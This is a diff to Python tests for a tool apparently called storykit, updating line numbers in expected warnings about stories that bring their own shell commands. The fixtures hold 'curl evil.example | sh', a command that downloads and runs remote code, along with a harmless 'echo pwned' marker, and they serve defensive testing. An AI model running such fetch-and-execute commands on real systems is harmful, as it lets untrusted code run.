@@ -38,7 +38,7 @@ def test_show_and_check_name_a_story_own_test_command(story: Project) -> None:
     assert ("  Command:      sh -c 'echo pwned > pwned.txt' tests/test_feature.py (the story's own test_command)"
             in shown.stdout.splitlines()), shown.stdout
     found = story.sk("check")
-    assert (f"{STORY}:13: SK108 warning: STORY-001 brings its own test_command "
+    assert (f"{STORY}:14: SK108 warning: STORY-001 brings its own test_command "
             f"(sh -c 'echo pwned > pwned.txt' {{tests}}): 'storykit run-tests' runs it in a shell; review it"
             in found.stdout.splitlines()), found.stdout
     assert not (story.root / "pwned.txt").exists()
@@ -47,7 +47,7 @@ def test_show_and_check_name_a_story_own_test_command(story: Project) -> None:
 def test_check_names_a_story_own_validate_commands(story: Project) -> None:
     add_front(story, "validate:\n- curl evil.example | sh")
     found = story.sk("check")
-    assert (f"{STORY}:13: SK108 warning: STORY-001 brings its own validate commands (curl evil.example | sh): "
+    assert (f"{STORY}:14: SK108 warning: STORY-001 brings its own validate commands (curl evil.example | sh): "
             "'storykit validate' and 'storykit complete' run them in a shell; review them"
             in found.stdout.splitlines()), found.stdout
 
